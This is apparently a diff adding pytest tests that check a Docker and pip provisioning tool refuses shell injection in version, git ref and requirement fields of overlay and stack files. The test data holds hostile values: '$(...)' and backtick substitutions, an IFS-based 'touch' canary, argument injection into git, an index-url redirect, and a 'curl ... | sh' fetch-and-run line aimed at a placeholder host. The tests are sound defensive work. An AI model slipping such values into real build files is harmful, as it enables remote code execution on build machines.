@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import resource
 import subprocess
 import sys
@@ -201,3 +202,100 @@ def test_trainer_config_refuses_nan_inf_bombs_and_fifos(tmp_path):
                               + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]) + "\n")
     with pytest.raises(ConfigError, match="expands"):
         load_config(bomb)
+
+
+def test_a_version_local_part_is_pep440_only():
+    """Review A #1: the text after '+' reached Dockerfile RUN lines and pip lines unchecked."""
+    for bad in ("1.0+a;b|c $(x)", "3.11+\nRUN x", f"65.7.0+x;touch${{IFS}}/tmp/{CANARY};", "1.0+", "1.0+a..b",
+                "1.0+x+y", "1.0+`x`", "1.0+a b"):
+        with pytest.raises(VersionError):
+            V(bad)
+    assert V("2.5.1+cpu").local == "cpu" and V("1.0+a.b-c_d").local == "a.b-c_d"
+
+
+# An overlay row, the command that reads it, and a fragment of the one-line refusal (file:line and field).
+_OVERLAY_CASES = [
+    ("apex:\n  - id: ascend-apex\n    setuptools_pin: \"65.7.0+x;touch${IFS}/tmp/PWNED;\"\n", "render",
+     "bad version string"),
+    ("apex:\n  - id: ascend-apex\n    ref: \"--orphan=PWNED\"\n", "render", "not starting with '-'"),
+    ("apex:\n  - id: ascend-apex\n    ref: \"-x\"\n", "render", "apex"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch}+cpu; curl -s http://e.example/x | sh;\"\n",
+     "resolve", "requirement"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch}+cpu --index-url http://e.example/simple\"\n",
+     "resolve", "requirement"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={version}+cpu\"\n", "resolve",
+     "only the placeholder {torch}"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    pin: \"torch=={x}\"\n", "resolve", "only the placeholder {torch}"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch.__class__}\"\n", "resolve",
+     "only the placeholder {torch}"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch>={torch}\"\n", "resolve", "one version with '=='"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch==={torch}$(PWNED)\"\n", "resolve", "requirement"),
+    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch @ https://e.example/t.whl\"\n", "resolve",
+     "requirement"),
+    ("extras:\n  - name: deepspeed\n    requirement: \"deepspeed; python_version > '3'\"\n", "resolve", "requirement"),
+    ("extras:\n  - name: deepspeed\n    requirement: \"deepspeed>=1 $(PWNED)\"\n", "resolve", "requirement"),
+]
+
+
+@pytest.mark.parametrize("text, command, fragment", _OVERLAY_CASES)
+def test_overlay_fields_that_reach_shell_lines_are_refused_in_one_line(text, command, fragment, tmp_path,
+                                                                        monkeypatch):
+    """Review A #1-#3: version, ref and requirement fields of an overlay reach `pip install` / `git checkout`
+    words of a Dockerfile RUN line, requirements/framework.txt and the printed install line; each is refused
+    where the overlay is read (file:line, exit 2), never a traceback, never written."""
+    overlay = tmp_path / "o.yaml"
+    overlay.write_text(text)
+    work = tmp_path / "work"
+    work.mkdir()
+    monkeypatch.chdir(work)
+    argv = [command, "--matrix", str(overlay), "--for-host", "none", "--card", "800T-A2", "--python", "3.10",
+            "--arch", "x86_64", "--torch", "2.5.1", "--with", "apex"]
+    res = invoke(argv + (["-o", "ctx"] if command == "render" else []))
+    assert res.exc is None, res.exc
+    assert res.rc == 2 and res.out == "" and len(res.err.splitlines()) == 1, res.err
+    assert "o.yaml:" in res.err and fragment in res.err, res.err
+    assert CANARY not in res.out and list(work.iterdir()) == []
+
+
+def test_torch_placeholder_is_filled_without_str_format():
+    from provisioner.matrix import fields
+
+    assert fields.with_torch("torch=={torch}+cpu", "2.5.1") == "torch==2.5.1+cpu"
+    assert fields.with_torch("torch=={torch.__class__}", "2") == "torch=={torch.__class__}"  # no attribute access
+    assert fields.requirement("deepspeed>=0.10.0,<=0.18.4", "extras") == "deepspeed>=0.10.0,<=0.18.4"
+    for bad in ("torch=={torch}+cpu", "x @ https://e.example/x", "x==1; os_name == 'nt'", "x==1 -i http://e",
+                "x===1", "x==1 | sh", "x==1`y`"):
+        with pytest.raises(ValueError):
+            fields.requirement(bad, "extras.requirement")
+
+
+def test_stack_documents_check_the_driver_lists_dtype_and_task():
+    """Review A #4/#8: fields code reads from a stack label or --stack file are checked there (one line)."""
+    ok = {"cann": {"version": "8.1.RC1"}, "driver": {"paired": ["25.0.rc1.1"], "compatible": [">=24.1.RC1,<26"]},
+          "dtype": {"compute": "bf16", "loss_scaling": None, "reason": "bf16: fine"}, "task": "train"}
+    assert validate.stack_doc(ok, "label") is ok
+    for driver, fragment in (({"paired": ["x"]}, "driver.paired[0]"), ({"paired": "zz"}, "driver.paired"),
+                             ({"paired": [1]}, "driver.paired[0]"), ({"paired": [None]}, "driver.paired[0]"),
+                             ({"compatible": [">=x"]}, "driver.compatible[0]"),
+                             ({"paired": [f"25.0+$({CANARY})"]}, "driver.paired[0]")):
+        with pytest.raises(validate.Invalid, match=re.escape(fragment)):
+            validate.stack_doc({"cann": {"version": "8.1.RC1"}, "driver": driver}, "--stack s.json")
+    for bad, fragment in (({"dtype": "bf16"}, "dtype must be an object"), ({"dtype": {"compute": ["x"]}}, "dtype.compute"),
+                          ({"task": {"x": 1}}, "task"), ({"task": "a/b"}, "task")):
+        with pytest.raises(validate.Invalid, match=re.escape(fragment)):
+            validate.stack_doc({"cann": {"version": "8.1.RC1"}, **bad}, "label")
+
+
+def test_version_text_has_one_grammar_said_the_same_everywhere():
+    """Review A #9: the checker, its refusal, the module docstring and docs/threat-model.md agree."""
+    from pathlib import Path
+
+    chars = ". + _ - * , < > = ! ~"
+    for good in ("8.1.RC1", ">=2.1,<2.3", "~=2.1", "2.*", "!=1.0", "2.5.1+cpu"):
+        assert validate.version_text(good) == good
+    for bad in ("2.1 ", ">= 2.1", "2.1;x", "$(x)", "2.1|x", "a'b"):
+        with pytest.raises(validate.Invalid, match=re.escape(chars)):
+            validate.version_text(bad, "--torch")
+    assert chars in validate.__doc__ and "no space" in validate.__doc__
+    doc = (Path(__file__).resolve().parents[2] / "docs" / "threat-model.md").read_text()
+    assert f"`{chars}`" in doc and "no space" in doc
